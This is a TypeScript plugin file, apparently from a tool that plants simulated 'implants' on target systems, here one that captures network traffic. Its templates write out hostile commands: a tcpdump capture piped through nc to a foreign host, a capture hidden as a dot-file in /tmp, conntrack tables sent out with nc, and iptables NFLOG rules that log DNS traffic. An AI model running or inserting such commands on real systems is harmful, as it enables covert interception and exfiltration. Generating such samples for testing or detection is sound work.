import type { Implant } from '#domain/plugin';
import { deviceOf, foreignAddress, foreignHost, foreignPort, vehiclesOf } from '#engine/ground/vehicles';

/** Traffic captured and sent on. */
export const captureForwarding: Implant = {
  kind: 'implant',
  id: 'capture-forwarding',
  version: 1,
  doc: {
    name: 'Traffic captured and sent on',
    says: 'What passes is captured by a program of the target and handed to a machine that nobody named, or kept for it.',
    sources: ['tcpdump(8); nc(1); logread of BusyBox'],
    limits: [
      'A target without a program that captures carries only the log of its connections.',
      'The root file system is taken to be writable at start-up; what only a test, a loop or a variable leads to carries no plant.',
    ],
  },
  question: 'interception',
  templates: vehiclesOf({
    ways: [
      (site, level, draw) =>
        site.has('tcpdump') && site.has('nc')
          ? [
              `tcpdump -i ${deviceOf(site, draw)} -s 0 -U -w - | nc ${foreignHost(site, level, draw)} ${foreignPort(level, draw)} &`,
            ]
          : null,
      (site, level, draw) =>
        site.has('tcpdump')
          ? [`tcpdump -i ${deviceOf(site, draw)} -s 0 -w /tmp/${level === 'overt' ? 'seen.pc' : '.cache'} &`]
          : null,
      (site, level, draw) =>
        site.has('nc') && site.has('cat')
          ? [`cat /proc/net/nf_conntrack | nc ${foreignAddress(draw)} ${foreignPort(level, draw)}`]
          : null,
      (site, level, draw) =>
        site.has('iptables')
          ? [
              `iptables -I FORWARD -p udp --dport ${level === 'overt' ? 5060 : 53} -j NFLOG --nflog-group ${draw(30) + 1}`,
            ]
          : null,
    ],
    isDone: ({ started }) =>
      started.some(
        ({ program, words }) =>
          (program === 'tcpdump' && words.includes('-w')) ||
          (program === 'nc' && words.length >= 2) ||
          (program === 'iptables' && words.includes('NFLOG')),
      ),
  }),
};
